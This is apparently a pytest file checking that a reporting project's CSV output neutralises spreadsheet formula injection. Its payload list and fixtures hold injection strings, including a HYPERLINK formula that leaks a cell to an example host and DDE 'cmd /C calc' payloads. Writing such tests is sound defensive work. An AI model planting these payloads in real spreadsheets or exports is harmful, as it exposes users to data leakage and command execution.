"""Every CSV the project writes is safe to open in a spreadsheet, and reads back exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from conftest import make_reference_frames, make_valid_frames, write_dataset
from report_runs import FIXTURE_NOTEBOOKS, run_report

from helpers.core import safe_csv
from helpers.figures import kpi_file
from helpers.figures.run_data import read_run_data, write_run_data
from helpers.intake.load import load_dataset

# Text that a spreadsheet would run, one per character OWASP names.
FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula start that is not a plain number."""
    if not cell or cell[0] not in safe_csv.FORMULA_STARTS:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text_and_read_back_as_it_was(tmp_path, text):
    path = safe_csv.write_rows(tmp_path / "a.csv", ["label", "value"], [[text, "1"]])
    assert cells(path)[2] == "'" + text
    assert safe_csv.read_rows(path) == [{"label": text, "value": "1"}]
    frame = safe_csv.read_frame(path)
    assert frame.loc[0, "label"] == text and frame.loc[0, "value"] == 1


@pytest.mark.parametrize("number", ["-3.5", "-3", "+2", "-0.000001", "-1e-05", "12"])
def test_numbers_stay_numbers_whatever_their_sign(tmp_path, number):
    path = safe_csv.write_rows(tmp_path / "a.csv", ["value"], [[number], [float(number)]])
    assert cells(path)[1:] == [number, str(float(number))]
    assert safe_csv.read_frame(path)["value"].tolist() == [float(number)] * 2


def test_a_text_that_starts_with_the_mark_reads_back_exactly(tmp_path):
    texts = ["'quoted", "''twice", "plain", "it's", ""]
    path = safe_csv.write_rows(tmp_path / "a.csv", ["label"], [[t] for t in texts])
    assert cells(path)[1:3] == ["''quoted", "'''twice"]
    assert [r["label"] for r in safe_csv.read_rows(path)] == texts


def test_the_kpi_file_neutralises_a_text_cell_but_keeps_negative_values(tmp_path):
    frame = pd.DataFrame(
        {
            "year": [2022, 2022],
            "section": ["carbon", "carbon"],
            "metric": ["emissions_tco2e", "emissions_tco2e"],
            "segment": ["=HYPERLINK(1)", "all"],
            "value": [-3.5, 2.0],
            "numerator": [None, None],
            "denominator": [None, None],
            "ci_low": [None, None],
            "ci_high": [None, None],
            "suppressed": [False, False],
        }
    )
    lines = kpi_file.write_kpis(frame, tmp_path / "kpis.csv").read_text().splitlines()
    assert lines[1] == "2022,carbon,emissions_tco2e,'=HYPERLINK(1),-3.500000,,,,,false"


@pytest.fixture
def hostile_frames() -> dict[str, pd.DataFrame]:
    """The hand-made dataset, its carbon categories (which the series file shows) and
    a funder turned into formulas."""
    frames = {**make_valid_frames(), **make_reference_frames()}
    activity = frames["carbon_activity"]
    activity["category"] = FORMULAS[: len(activity)]
    frames["enrollments"]["funder"] = "=cmd|' /C calc'!A0"
    return frames


def test_data_strings_reach_the_run_data_files_neutralised(tmp_path, hostile_frames):
    data = write_dataset(hostile_frames, tmp_path / "data")
    folder = write_run_data(load_dataset(data), 2022, 1, tmp_path / "run")
    written = {
        name: cells(folder / name) for name in ("kpis.csv", "kpis_history.csv", "series.csv")
    }
    for name, found in written.items():
        assert not [c for c in found if runs_as_formula(c)], name
    # The categories did reach the series file, and come back to the notebooks unchanged.
    categories = set(hostile_frames["carbon_activity"]["category"])
    assert {"'" + c for c in categories} <= set(written["series.csv"])
    assert categories <= set(read_run_data(folder).series["segment"])


@pytest.mark.slow
def test_no_csv_of_a_report_holds_a_cell_a_spreadsheet_would_run(tmp_path, hostile_frames):
    data = write_dataset(hostile_frames, tmp_path / "data")
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    (notebooks / "good.ipynb").write_bytes((FIXTURE_NOTEBOOKS / "good.ipynb").read_bytes())
    result = run_report(
        "--year", "2022", "--data", str(data), "--out", str(tmp_path / "out"),
        "--notebooks", str(notebooks), "--min-cell", "1",
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    written = sorted((tmp_path / "out" / "2022" / "en").rglob("*.csv"))
    assert {p.name for p in written} >= {"kpis.csv", "kpis_history.csv", "series.csv"}
    for path in written:
        assert not [c for c in cells(path) if runs_as_formula(c)], path.name
    series = cells(tmp_path / "out" / "2022" / "en" / "run-data" / "series.csv")
    assert "'" + FORMULAS[0] in series
